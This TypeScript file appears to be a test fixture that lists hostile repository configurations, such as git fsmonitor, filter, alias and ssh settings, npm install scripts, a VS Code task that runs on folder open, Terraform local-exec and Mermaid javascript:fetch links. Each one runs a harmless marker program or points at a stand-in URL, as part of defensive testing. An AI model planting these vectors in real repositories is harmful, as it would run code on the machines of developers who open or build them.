/** What a repository can name that somebody might run, load or fetch. Each writes a marker when that happens. */
export interface HostileKind {
  readonly name: string;
  /** Files by path, from the place where the kind is planted. */
  readonly files: (traps: Traps) => Readonly<Record<string, string>>;
  /** Lines of a configuration of git. */
  readonly gitConfig?: (traps: Traps) => string;
  /** Whether plain `git status` and `git diff` run it: that proves the trap. */
  readonly firesInGit?: true;
}

/** The ways in which a trap is sprung. */
export interface Traps {
  /** Path of a program that leaves the marker. */
  readonly program: string;
  /** Path of a module that leaves it when it is loaded. */
  readonly module: string;
  /** JavaScript that leaves it. */
  readonly code: string;
  /** Where nobody may connect. */
  readonly url: string;
}

const nothing = (): Readonly<Record<string, string>> => ({});
const attributes = (line: string) => (): Readonly<Record<string, string>> => ({ '.gitattributes': `${line}\n` });
const config = (name: string, gitConfig: (traps: Traps) => string, more: Partial<HostileKind> = {}): HostileKind => ({ name: `git: ${name}`, files: nothing, gitConfig, ...more });

/** What stands in the repository's own configuration of git. */
export const gitKinds: readonly HostileKind[] = [
  config('fsmonitor', ({ program }) => `[core]\n\tfsmonitor = ${program}\n`, { firesInGit: true }),
  config('clean filter', ({ program }) => `[filter "evil"]\n\tclean = ${program}\n\tsmudge = ${program}\n\trequired = true\n`, { files: attributes('* filter=evil'), firesInGit: true }),
  config('filter process', ({ program }) => `[filter "evil"]\n\tprocess = ${program}\n`, { files: attributes('*.ts filter=evil'), firesInGit: true }),
  config('filter named with an equals sign', ({ program }) => `[filter "a=b"]\n\tclean = ${program}\n`, { files: attributes('* filter=a=b'), firesInGit: true }),
  config('external diff', ({ program }) => `[diff]\n\texternal = ${program}\n`, { firesInGit: true }),
  config('diff driver', ({ program }) => `[diff "evil"]\n\tcommand = ${program}\n`, { files: attributes('* diff=evil'), firesInGit: true }),
  config('textconv', ({ program }) => `[diff "evil"]\n\ttextconv = ${program}\n`, { files: attributes('* diff=evil'), firesInGit: true }),
  config('hooks path', ({ program }) => `[core]\n\thooksPath = ${program.slice(0, program.lastIndexOf('/'))}\n`),
  config('pager', ({ program }) => `[core]\n\tpager = ${program}\n[pager]\n\tls-tree = ${program}\n\trev-parse = ${program}\n\tmerge-base = ${program}\n`),
  config('aliases', ({ program }) => ['rev-parse', 'merge-base', 'ls-tree', 'log'].map((name) => `[alias]\n\t${name} = !${program}\n`).join('')),
  config('ssh command', ({ program, url }) => `[core]\n\tsshCommand = ${program}\n[remote "origin"]\n\turl = ssh://${url}/x\n`),
  config('promisor over ext', ({ program }) => `[remote "origin"]\n\turl = ext::${program}\n\tpromisor = true\n\tpartialclonefilter = blob:none\n[protocol "ext"]\n\tallow = always\n[extensions]\n\tpartialClone = origin\n`),
  config('promisor over ssh', ({ program, url }) => `[core]\n\tsshCommand = ${program}\n[remote "origin"]\n\turl = ssh://${url}/x\n\tpromisor = true\n[protocol]\n\tallow = always\n`),
  config('upload-pack', ({ program }) => `[remote "origin"]\n\turl = .\n\tuploadpack = ${program}\n\treceivepack = ${program}\n`),
  config('pack hook', ({ program }) => `[uploadpack]\n\tpackObjectsHook = ${program}\n`),
  config('alternate refs', ({ program }) => `[core]\n\talternateRefsCommand = ${program}\n`),
  config('editor and askpass', ({ program }) => `[core]\n\teditor = ${program}\n\taskPass = ${program}\n[sequence]\n\teditor = ${program}\n`),
  config('credential helper', ({ program }) => `[credential]\n\thelper = ${program}\n`),
  config('signatures', ({ program }) => `[gpg]\n\tprogram = ${program}\n[log]\n\tshowSignature = true\n[commit]\n\tgpgSign = true\n`),
  config('proxy', ({ program, url }) => `[core]\n\tgitProxy = ${program}\n[http]\n\tproxy = http://${url}\n`),
  config('merge driver', ({ program }) => `[merge "evil"]\n\tdriver = ${program}\n`, { files: attributes('* merge=evil') }),
  config('submodule update', ({ program }) => `[submodule "evil"]\n\turl = .\n\tupdate = !${program}\n\tactive = true\n`, { files: ({ program }) => ({ '.gitmodules': `[submodule "evil"]\n\tpath = evil\n\turl = .\n\tupdate = !${program}\n` }) }),
  config('work tree elsewhere', () => '[core]\n\tworktree = /\n'),
  config('tracing', ({ program }) => `[trace2]\n\teventTarget = ${program}.trace\n\tnormalTarget = af_unix:${program}.socket\n`),
  config('browsers and tools', ({ program }) => `[web]\n\tbrowser = evil\n[browser "evil"]\n\tcmd = ${program}\n[difftool "evil"]\n\tcmd = ${program}\n[interactive]\n\tdiffFilter = ${program}\n`),
];

const source = (name: string, text: (traps: Traps) => string): HostileKind => ({ name: `file: ${name}`, files: (traps) => ({ [name]: text(traps) }) });
const json = (name: string, value: (traps: Traps) => unknown): HostileKind => source(name, (traps) => JSON.stringify(value(traps)));
const code = (name: string): HostileKind => source(name, (traps) => traps.code);

/** What stands in files that tools of all kinds read, run and follow. */
export const fileKinds: readonly HostileKind[] = [
  json('package.json', ({ program, module }) => ({ name: 'x', main: module, bin: { git: program }, scripts: { preinstall: program, install: program, prepare: program, lint: program, pretest: program }, archnotes: { plugins: [module] }, imports: { '#x': module }, eslintConfig: { plugins: [module] }, dependencies: { ioredis: 'file:./evil' } })),
  json('archnotes.json', ({ module, url }) => ({ extends: [module, `https://${url}/c.json`], plugins: [module], rules: module, parser: module })),
  json('tsconfig.json', ({ module, url }) => ({ extends: [module, `https://${url}/tsconfig.json`, 'evil'], compilerOptions: { plugins: [{ name: module, transform: module }], paths: { '*': [module] } } })),
  json('.eslintrc.json', ({ module }) => ({ root: true, extends: module, plugins: [module], parser: module })),
  json('turbo.json', ({ program }) => ({ globalDependencies: ['**'], tasks: { lint: { outputs: [program] } } })),
  json('nx.json', ({ module }) => ({ plugins: [module], tasksRunnerOptions: { default: { runner: module } } })),
  json('cdk.json', ({ program }) => ({ app: program, build: program })),
  json('.vscode/settings.json', ({ program, module }) => ({ 'archnotes.patterns.folders': [module], 'archnotes.server.path': program, 'git.path': program, 'typescript.tsdk': module })),
  json('.vscode/tasks.json', ({ program }) => ({ tasks: [{ command: program, runOptions: { runOn: 'folderOpen' } }] })),
  json('.mocharc.json', ({ module }) => ({ require: [module] })),
  ...['archnotes.config.js', 'archnotes.config.cjs', 'eslint.config.mjs', '.eslintrc.js', '.babelrc.js', 'vite.config.ts', '.pnpmfile.cjs', 'sst.config.ts', 'index.js', 'handler.js', 'serverless.ts', 'prettier.config.js'].map(code),
  source('.npmrc', ({ module, program, url }) => `registry=http://${url}/\nnode-options=--require ${module}\nscript-shell=${program}\ngit=${program}\n`),
  source('.yarnrc.yml', ({ module }) => `yarnPath: ${module}\nplugins:\n  - ${module}\n`),
  source('.envrc', ({ program }) => `${program}\nexport PATH=$PWD:$PATH\n`),
  source('.env', ({ module }) => `NODE_OPTIONS=--require ${module}\n`),
  source('Makefile', ({ program }) => `all:\n\t${program}\n$(shell ${program})\n`),
  source('serverless.yml', ({ module, url }) => `service: x\nplugins:\n  - ${module}\ncustom: \${file(${module})}\nvalue: \${http://${url}/}\nfunctions: \${file(./evil.js):functions}\n`),
  source('template.yaml', ({ url }) => `Transform: [AWS::Serverless-2016-10-31, { Name: AWS::Include, Parameters: { Location: 'https://${url}/t.yaml' } }]\nResources:\n  F: { Type: AWS::Serverless::Function, Properties: { Handler: src/placeOrder.handler, CodeUri: 'https://${url}/c.zip' } }\n`),
  source('main.tf', ({ program, url }) => `module "m" { source = "git::https://${url}/m.git" }\nresource "null_resource" "x" { provisioner "local-exec" { command = "${program}" } }\ndata "external" "x" { program = ["${program}"] }\n`),
  source('Dockerfile', ({ program, url }) => `FROM ${url}/x\nRUN ${program}\n`),
  source('setup.py', ({ program }) => `import os\nos.system("${program}")\n`),
  source('diagram.mmd', ({ url, program }) => `%%{init: {"securityLevel": "loose", "themeCSS": "@import url(http://${url}/)"}}%%\nflowchart LR\n  a@{ img: "http://${url}/x.png" } --> b\n  click a call run("${program}")\n  click b "javascript:fetch('http://${url}')"\n`),
  source('notes.md', ({ url, module }) => `![x](http://${url}/x.png)\n\n<script src="http://${url}/x.js"></script>\n\n\`\`\`mermaid\nflowchart LR\n  %% archnotes: a -> ${module}\n  a\n\`\`\`\n`),
  { name: 'file: programs for npm', files: ({ program }) => Object.fromEntries(['git', 'node', 'sh', 'archnotes'].map((name) => [`node_modules/.bin/${name}`, `#!/bin/sh\nexec ${program}\n`])) },
  { name: 'file: modules', files: ({ code: text }) => Object.fromEntries(['ioredis', 'typescript', 'evil', 'zod', 'mermaid'].flatMap((name) => [[`node_modules/${name}/index.js`, text], [`node_modules/${name}/package.json`, '{ "main": "index.js" }']])) },
  { name: 'file: programs beside the sources', files: ({ program }) => Object.fromEntries(['git', 'git.exe', 'git.cmd', 'node'].map((name) => [name, `#!/bin/sh\nexec ${program}\n`])) },
];
